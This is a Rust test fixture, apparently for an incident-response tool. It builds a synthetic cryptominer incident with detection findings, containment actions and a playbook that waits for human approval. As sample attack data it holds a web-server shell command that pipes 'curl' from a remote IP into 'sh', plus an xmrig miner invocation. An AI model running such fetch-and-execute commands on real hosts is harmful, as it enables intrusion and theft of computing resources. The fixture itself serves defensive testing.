//! An incident as it may be: a shell from the network that fetches a miner, an audit record, an answer that waits.

use std::{collections::BTreeMap, sync::Arc};

use hemostat_narrate::{Document, Known, PlanTold, StepTold, document};
use model::*;

pub(crate) const START: Timestamp = Timestamp(1_790_000_000_123_000_000);

fn at(ms: i64) -> Timestamp {
    Timestamp(START.0 + ms * 1_000_000)
}

fn process(pid: u32, parent: u32, exe: &str, line: &str) -> Process {
    let key = |pid: u32| ProcessKey { pid: Pid(pid), start: BootNs(u64::from(pid) * 1000) };
    Process {
        key: key(pid),
        parent: Some(key(parent)),
        exe: exe.into(),
        exe_file: ExeFile::default(),
        command_line: line.into(),
        args: line.split(' ').map(str::to_owned).collect(),
        args_truncated: Truncated::No,
        cwd: "/".into(),
        comm: "x".into(),
        credentials: Credentials { uid: 33, euid: 33, ..Credentials::default() },
        namespaces: Namespaces::default(),
        tty: None,
        stdio: Stdio::default(),
        cgroup: CgroupId(77),
        workload: Arc::new(Workload::unit("nginx.service", "/system.slice/nginx.service")),
        origin: ProcessOrigin::Exec,
        exit: None,
    }
}

/// `text` stands wherever somebody else than we may have written; `twist` gives each place its own.
pub(crate) fn incident(twist: &dyn Fn(&str) -> String) -> Incident {
    let t = |plain: &str| twist(plain);
    let nginx = Arc::new(process(900, 1, &t("/usr/sbin/nginx"), &t("nginx: worker process")));
    let mut shell = process(4242, 900, &t("/usr/bin/dash"), &t("sh -c curl -s http://203.0.113.7/x | sh"));
    shell.stdio.stdin = FdKind::Socket;
    let shell = Arc::new(shell);
    let mut miner =
        process(4250, 4242, &t("/tmp/.x/xmrig"), &t("xmrig -o pool.example:3333 -u wallet --donate-level 1"));
    miner.exe_file.backing = Backing::Deleted;
    miner.workload = Arc::new(Workload::unit("nginx.service", "/system.slice/nginx.service"));
    let miner = Arc::new(miner);
    let finding = |n: u64,
                   ms: i64,
                   title: &str,
                   level,
                   process: &Arc<Process>,
                   ancestors: Vec<Arc<Process>>,
                   activity| {
        let id = EventId { node: NodeId::new(t("web-1")), epoch: AgentEpoch(1), seq: Seq(n) };
        Finding {
            id: FindingId::derive(&id, title),
            rule: RuleRef {
                id: t(&format!("rule-{n}")),
                title: t(title),
                level,
                techniques: vec!["T1059.004".into(), t("T1496")],
                tactics: vec!["execution".into()],
                reaction: Reaction::Freeze,
            },
            event: Event {
                id,
                time: at(ms),
                process: Arc::clone(process),
                parent: None,
                ancestors: Arc::new([]),
                exposure: Exposure::BehindListener,
                activity,
            },
            matched: BTreeMap::from([
                ("CommandLine".into(), process.command_line.clone()),
                (t("Image"), process.exe.clone()),
            ]),
            count: n,
            first: at(ms),
            last: at(ms),
            ancestors,
            context: vec![],
            reactions: vec![],
            moments: model::Moments::default(),
            loss: LossWindow::default(),
        }
    };
    let flow = Flow {
        protocol: Protocol::Tcp,
        local: Endpoint { addr: [10, 0, 0, 4].into(), port: 40000 },
        remote: Endpoint { addr: [203, 0, 113, 7].into(), port: 3333 },
    };
    let file = |path: &str| FilePath { path: t(path), truncated: Truncated::No };
    let mut record = Record {
        kind: RecordKind::Sshd,
        id: "1".into(),
        principal: Some(Principal { realm: t("web-1"), name: t("deploy") }),
        origin: Some([198, 51, 100, 9].into()),
        object: Some(RecordObject { kind: t("host"), namespace: None, name: t("web-1") }),
        sight: None,
        writer: None,
        facts: Facts::default(),
    };
    record.facts.set("User", Fact::Text(t("deploy")));
    let told = record.clone();
    let mut login = finding(
        4,
        -64_000,
        "Login after many failures",
        Level::Medium,
        &nginx,
        vec![],
        Activity::Record(Arc::new(told)),
    );
    login.event.process = Arc::new(process(0, 0, "", ""));
    let opened = Activity::FileOpen { file: file("/tmp/.x/xmrig"), flags: 1, created: Created::Yes };
    let findings = vec![
        login,
        finding(1, 0, "Shell of a web server", Level::High, &shell, vec![Arc::clone(&nginx)], opened),
        finding(
            2,
            1830,
            "Cryptominer",
            Level::Critical,
            &miner,
            vec![Arc::clone(&shell), Arc::clone(&nginx)],
            Activity::Exec { requested: t("./xmrig") },
        ),
        finding(
            3,
            2105,
            "Connection to a mining pool",
            Level::High,
            &miner,
            vec![shell, nginx],
            Activity::Connect(flow),
        ),
    ];
    let freeze = NodeAction::Freeze(FreezeScope::Subtree);
    let signal = |kind, says, found, needed, evidence: &str| Signal {
        kind,
        says,
        found,
        needed,
        evidence: vec![t(evidence)],
    };
    let act = |id: &str, action: NodeAction, target: Target, state, ms| ActionRecord {
        id: ActionId::new(id),
        incident: None,
        run: None,
        step: None,
        rollback: None,
        action,
        target,
        state,
        planned: at(ms - 1),
        applied: Some(at(ms)),
        detail: t("frozen at once"),
    };
    let entry = |ms, actor: &str, what: &str| TimelineEntry {
        at: at(ms),
        actor: Actor::new(t(actor)),
        what: t(what),
    };
    Incident {
        id: IncidentId::new("inc-7f3a9c21"),
        title: t("Cryptominer"),
        severity: Level::Critical,
        state: IncidentState::NeedsApproval,
        entities: vec![Entity::Principal { who: Principal { realm: t("web-1"), name: t("deploy") } }],
        pods: vec![],
        sessions: vec![],
        findings,
        findings_dropped: 3,
        techniques: vec!["T1059.004".into(), t("T1496")],
        first_event: at(-64_000),
        opened: at(12),
        updated: at(2400),
        contained: Some(at(1833)),
        verdict: None,
        enrichment: Enrichment {
            at: at(2200),
            classes: vec![t("restricted")],
            intelligence: vec![IntelligenceMatch {
                observed: t("203.0.113.7"),
                seen_in: t("fnd-3 remote address"),
                indicator: t("203.0.113.0/24"),
                relation: "within".into(),
                feed: t("pools.csv"),
                confidence: 80,
                seen: None,
                expires: None,
                written: at(-86_400_000),
                note: t("a mining pool"),
            }],
            facts: vec![StatedFact {
                kind: FactKind::Sensitivity,
                what: t("nginx.service is exposed to the internet"),
                source: t("flows"),
                known: at(-1000),
            }],
            missing: vec![MissingFact { what: t("owner"), because: t("there is no cluster") }],
        },
        actions: vec![
            act(
                "act-1",
                freeze,
                Target::Process { process: ProcessKey { pid: Pid(4250), start: BootNs(4_250_000) } },
                ActionState::Verified,
                1833,
            ),
            act(
                "act-2",
                NodeAction::QuarantineFile,
                Target::File { path: t("/tmp/.x/xmrig"), inode: 1, device: 2 },
                ActionState::Failed,
                1900,
            ),
        ],
        runs: vec![RunSummary {
            id: RunId::new(t("run-1-cryptomining")),
            playbook: PlaybookName::new(t("cryptomining")),
            decision: GateDecision {
                outcome: GateOutcome::Approval,
                reasons: vec![
                    t("mode of the playbook: Auto"),
                    t("pattern confidence 92.50 %, 95.00 % needed"),
                ],
                signals: vec![
                    signal(
                        SignalKind::PatternConfidence,
                        SignalSays::Ask,
                        Some(Share(9250)),
                        Some(Share(9500)),
                        "rule rule-2: 0 true and 1 false positives by verdict",
                    ),
                    signal(SignalKind::Context, SignalSays::Act, None, None, "no planned work, no rollout"),
                    signal(
                        SignalKind::PlaybookHistory,
                        SignalSays::Act,
                        Some(Share(9980)),
                        Some(Share(9950)),
                        "right in 499 of 500 judged runs",
                    ),
                ],
            },
            state: RunState::Waiting,
            waiting: vec![ApprovalRequest {
                step: StepName::new(t("run")),
                would: t(
                    "node.freeze on pid 4250; node.net-quarantine on nginx.service; node.kill on pid 4250",
                ),
                because: t("pattern confidence 92.50 %, 95.00 % needed"),
                expires: at(902_400),
            }],
        }],
        timeline: vec![
            entry(12, "system:controller", "cryptomining waits for a person"),
            entry(1833, "agent:web-1", "node.freeze on pid 4250: Verified"),
            entry(2400, "user:ada", "looks at it"),
        ],
    }
}

/// Its document.
pub(crate) fn told(twist: &dyn Fn(&str) -> String) -> Document {
    let step = |name: &str, action: &str, needs: &[&str], would: &str, undo: &str| StepTold {
        name: twist(name),
        action: twist(action),
        needs: needs.iter().map(|need| twist(need)).collect(),
        would: twist(would),
        undo: twist(undo),
        state: String::new(),
    };
    let plans = [PlanTold {
        run: twist("run-1-cryptomining"),
        description: twist("Freeze it, cut it off, keep the evidence, then kill it once a person said yes."),
        widest: "Workload".into(),
        maximum_targets: 4,
        approvers: vec![twist("group:oncall")],
        steps: vec![
            step("freeze", "node.freeze", &[], "freeze pid 4250 and its descendants", "exactly"),
            step("isolate", "node.net-quarantine", &[], "cut nginx.service off the network", "exactly"),
            step(
                "evidence",
                "node.capture-evidence",
                &["freeze"],
                "copy what is needed to judge it",
                "changes nothing",
            ),
            step(
                "kill",
                "node.kill",
                &["freeze", "evidence"],
                "end pid 4250",
                "cannot be: the processes are gone",
            ),
        ],
    }];
    document(&incident(twist), &Known { plans: &plans, unanswered: "", now: at(3000) })
}
